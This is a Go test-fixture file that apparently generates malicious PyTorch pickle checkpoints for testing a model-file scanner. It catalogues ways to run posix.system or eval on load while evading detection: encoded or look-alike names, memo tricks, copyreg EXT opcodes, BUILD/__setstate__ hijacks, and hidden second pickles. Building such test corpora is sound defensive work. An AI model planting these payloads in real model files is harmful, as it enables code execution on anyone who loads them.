// Copyright The modelfs Authors
// SPDX-License-Identifier: Apache-2.0

package attacks

import "slices"

// What the control of the payloads registers in copyreg for EXT1, EXT2 and EXT4.
const (
	extension1 = 240
	extension2 = 0x1234
	extension4 = 0x12345678
)

// names are ways to come by a function without a GLOBAL that says it.
func names() []trick {
	rot13 := func(s string) []byte { return call(global("_codecs.decode"), text(s), text("rot13")) }
	return []trick{
		{"stack-global", call(stackGlobal(text("posix"), text("system")), text(shell)), "system", true, "protocol 4's form"},
		{
			"stack-global-memo",
			concat(dropped(put(text("system"), 7)), dropped(put(text("posix"), 8)), call(stackGlobal(get(8), get(7)), text(shell))),
			"system", true, "mmaitre314/picklescan#22, #23: names out of the memo, which is not in order",
		},
		{
			"stack-global-memoize",
			join("\x8c\x05posix\x94\x8c\x06system\x94", "00", call(join("h\x00h\x01\x93"), text(shell))),
			"system", true, "names by MEMOIZE, whose places are counted",
		},
		{
			"stack-global-made", call(stackGlobal(rot13("cbfvk"), rot13("flfgrz")), text(shell)),
			"", true, "names that a call makes: no reader of opcodes knows them",
		},
		{"dotted", call(stackGlobal(text("posixpath"), text("os.system")), text(shell)), "system", true, "a name with a dot leads on into another module"},
		{"dotted-torch", call(stackGlobal(text("torch.serialization"), text("os.system")), text(shell)), "system", false, "a name with a dot, from a module of PyTorch"},
		{"dotted-allowed", call(stackGlobal(text("collections"), text("_sys.modules.get")), text("os")), "_sys", false, "a name with a dot, from the module of OrderedDict"},
		{"global-space", call(join("cposix \nsystem\n"), text(shell)), "system", false, "a space that a scanner strips"},
		{"global-carriage-return", call(join("cposix\r\nsystem\r\n"), text(shell)), "system", false, "line ends of another system"},
		{"global-unicode", call(join("cpo\u017fix\nsystem\n"), text(shell)), "system", false, "letters that look like others"},
		{"global-empty-module", call(join("c\nsystem\n"), text(shell)), "", false, "no module"},
		{"global-utf8", call(join("cposix\nsys\xfftem\n"), text(shell)), "", false, "a name that is not UTF-8"},
		{"allowed-prefix", call(global("collections.OrderedDict.fromkeys"), text("x")), "fromkeys", false, "a method of a class that is allowed"},
		{"look-alike", call(global("torch._utils._rebuild_tensor_v2x"), text(shell)), "_rebuild_tensor_v2x", false, "a name that begins as an allowed one"},
		{"storage-look-alike", call(global("torch.EvilStorage"), text(shell)), "EvilStorage", false, "a name that ends as a storage's"},
	}
}

// machine are opcodes that call without REDUCE. Which of them are refused, and
// which are read as values that nobody looks into, the machine may choose.
func machine() []trick {
	space := join(global("types.SimpleNamespace"), ")\x81")
	return []trick{
		{"inst", join("(", text(shell), "iposix\nsystem\n"), "", true, "INST: the call of protocol 0"},
		{"obj", join("(", global("posix.system"), text(shell), "o"), "", true, "OBJ: the call of protocol 1"},
		{"newobj", join(global("functools.partial"), tuple(global("posix.system"), text(shell)), "\x81)R"), "", true, "NEWOBJ, and its result called"},
		{"newobj-ex", join(global("functools.partial"), tuple(global("posix.system"), text(shell)), "}\x92)R"), "", true, "NEWOBJ_EX, and its result called"},
		{"ext1", call(join(byte(0x82), byte(extension1)), text(shell)), "", true, "EXT1: a function by a number of copyreg"},
		{"ext2", call(join(byte(0x83), uint16(extension2)), text(shell)), "", true, "EXT2: a function by a number of copyreg"},
		{"ext4", call(join(byte(0x84), uint32(extension4)), text(shell)), "", true, "EXT4: a function by a number of copyreg"},
		{"ext4-negative", call(join(byte(0x84), int32(-1)), text(shell)), "", false, "EXT4 with a number below 0"},
		{
			"setstate", join(space, dict(text("__setstate__"), global("posix.system")), "b", text(shell), "b"),
			"", true, "BUILD makes an object's __setstate__ a function, the next BUILD calls it",
		},
		{"build-function", join(global("collections.OrderedDict"), dict(text("__init__"), global("posix.system")), "b"), "", false, "BUILD on a class that everybody uses"},
		{"build-slots", join(space, "N", dict(text("x"), global("posix.system")), "\x86b"), "", false, "protectai/modelscan#85: BUILD with slots sets any attribute"},
		{"persid", join("Pposix.system\n"), "", false, "PERSID: a persistent id as text, which only protocol 0 has"},
		{"binpersid-call", join(tuple(text("storage"), call(global("posix.system"), text(shell)), text("0"), text("cpu"), num(4)), "Q"), "", true, "a call within a storage's id"},
		{"binpersid-other", join(tuple(text("module"), global("posix.system"), text("x.py"), text("source")), "Q"), "", false, "torch.load's other kind of persistent id: a class with its source"},
		{"readonly-buffer", join("\x97\x98"), "", false, "NEXT_BUFFER without buffers"},
		{"dup", concat(call(global("posix.system"), text(shell)), []byte("20")), "", true, "a call, copied and dropped"},
		{"pop-mark", concat([]byte("("), call(global("posix.system"), text(shell)), []byte("1N")), "", true, "a call whose result is thrown away with a MARK"},
		{"popped-call", concat(dropped(call(global("posix.system"), text(shell))), []byte("N")), "", true, "a call whose result is thrown away"},
		{"memo-overwritten", concat(dropped(put(global("collections.OrderedDict"), 9)), dropped(put(global("posix.system"), 9)), call(get(9), text(shell))), "", true, "mmaitre314/picklescan#14: one place of the memo, filled twice"},
		{"reduce-text", call(text("posix.system"), text(shell)), "", false, "REDUCE of what is no function"},
		{"reduce-list", join(global("posix.system"), list(text(shell)), "R"), "", false, "REDUCE without a tuple"},
		{"reduce-tensor-argument", call(global("posix.system"), weight()), "", false, "a tensor as an argument: it hangs on a call"},
		{"reduce-tensor-called", call(weight(), text(shell)), "", false, "a tensor as a function"},
	}
}

// opcodes are checkpoints with a weight and one of these tricks beside it.
func opcodes() []Attack {
	var rows []row
	for _, t := range names() {
		rows = append(rows, t.beside(pickled(4, dict(text("evil"), t.value, text("w"), weight())), flagged(t.says)))
	}
	for _, t := range machine() {
		rows = append(rows, t.beside(pickled(4, dict(text("evil"), t.value, text("w"), weight())), flagged(t.says)))
	}
	return slices.Concat(table("opcode", ".pt", rows...), behind())
}

// behind are calls that happen outside the value that the pickle gives.
func behind() []Attack {
	evil := call(global("posix.system"), text(shell))
	sound := dict(text("w"), weight())
	before := pickled(2, dropped(evil), sound)
	second := join(pickled(2, sound), pickled(2, evil))
	two := pickled(2, evil, sound)
	alone := pickled(2, evil)
	made := pickled(2, call(global("builtins.eval"), text(python+" or dict()")), []byte("("), text("w"), weight(), []byte("u"))
	return table("opcode", ".pt",
		row{"called-before", whole(torchZip(before)), flagged(""), "a call before the state dict, whose result is dropped", before},
		row{"second-pickle", whole(torchZip(second)), flagged(""), "a second pickle behind STOP in data.pkl", nil},
		row{"two-values", whole(torchZip(two)), flagged(""), "two values are left on the stack", two},
		row{"dict-made", whole(torchZip(made)), flagged("eval"), "safetensors attacks/torch_ace_create.py: the state dict itself is what a call gives", made},
		row{"call-alone", whole(torchZip(alone)), flagged("system"), "nothing but the call", alone},
	)
}
